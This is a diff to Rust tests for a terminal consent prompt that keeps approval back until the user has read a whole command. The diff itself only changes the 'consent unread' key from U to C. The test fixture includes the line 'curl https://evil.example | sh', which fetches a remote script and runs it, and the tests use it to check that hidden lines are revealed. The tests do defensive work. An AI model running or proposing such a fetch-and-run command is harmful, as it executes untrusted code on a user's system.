@@ -38,11 +38,11 @@ fn consent_waits_for_the_end_of_the_subject() {
     let mut model = opened(&long(1));
     let shown = draw(&model);
     assert!(shown.contains("Subject\n  echo 1\n") && !shown.contains("curl"), "{shown}");
-    assert!(shown.contains("lines left to read before you consent (PgDn; U unread)"), "{shown}");
+    assert!(shown.contains("lines left to read before you consent (PgDn; C unread)"), "{shown}");
     assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter shows the no");
     let mut model = opened(&long(1));
     assert_eq!(press(&mut model, "1"), []);
-    assert!(draw(&model).contains("lines of the subject are left to read first: PgDn. U consents unread."));
+    assert!(draw(&model).contains("lines of the subject are left to read first: PgDn. C consents unread."));
     // Space and PgDn read on.
     press(&mut model, " <pgdn><pgdn>");
     assert!(draw(&model).contains("curl https://evil.example | sh"), "{}", draw(&model));
@@ -73,7 +73,7 @@ fn the_subject_alone_read_to_its_end_counts() {
 #[test]
 fn consent_unread_is_a_second_step_and_recorded() {
     let mut model = opened(&long(1));
-    assert_eq!(press(&mut model, "1U"), []);
+    assert_eq!(press(&mut model, "1C"), []);
     assert!(draw(&model).contains("You consent unread: the answer will say so."), "{}", draw(&model));
     assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(false));
 }
